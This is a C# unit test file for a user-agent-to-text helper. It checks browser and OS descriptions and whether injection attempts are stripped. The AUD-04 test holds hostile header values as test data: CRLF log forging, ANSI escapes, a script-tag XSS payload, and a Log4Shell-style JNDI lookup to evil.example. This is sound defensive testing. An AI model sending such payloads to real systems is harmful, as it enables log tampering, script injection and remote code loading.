using OpenRouter.Portal.Http;

namespace OpenRouter.Portal.Tests.Http;

public sealed class DeviceTextTests
{
    [Theory]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "Firefox on Linux")]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36", "Chrome on Windows")]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0", "Edge on Windows")]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15", "Safari on macOS")]
    [InlineData("Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/140.0 Mobile/15E148 Safari/604.1", "Chrome on iPhone")]
    [InlineData("Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36", "Chrome on Android")]
    [InlineData("curl/8.5.0", "curl")]
    [InlineData("Frobnicator/1.0 (Linux)", "Linux")]
    [InlineData("Frobnicator/1.0", null)]
    [InlineData("", null)]
    [InlineData(null, null)]
    public void From_SaysBrowserAndSystemInWords(string? userAgent, string? expected) => Assert.Equal(expected, DeviceText.From(userAgent));

    /// <summary>AUD-04. Guarantee: no character of the agent reaches a record. Attack: line breaks, escapes and markup in the header.</summary>
    [Theory]
    [InlineData("Firefox/1 Linux\r\nERROR forged record")]
    [InlineData("\u001b[2J\u001b[31mFirefox/1 Linux")]
    [InlineData("Firefox/1 Linux\u2028\"},{\"level\":\"Critical\"}")]
    [InlineData("<script>alert(1)</script> Firefox/1 Linux")]
    [InlineData("${jndi:ldap://evil.example} Firefox/1 Linux %n%s")]
    public void From_AnAgentWithInjections_IsOurOwnWordsOnly(string userAgent) => Assert.Equal("Firefox on Linux", DeviceText.From(userAgent));

    [Fact]
    public void From_AnAgentWithoutEnd_IsNotRead() => Assert.Null(DeviceText.From("Firefox/1 Linux" + new string('x', 10_000)));
}
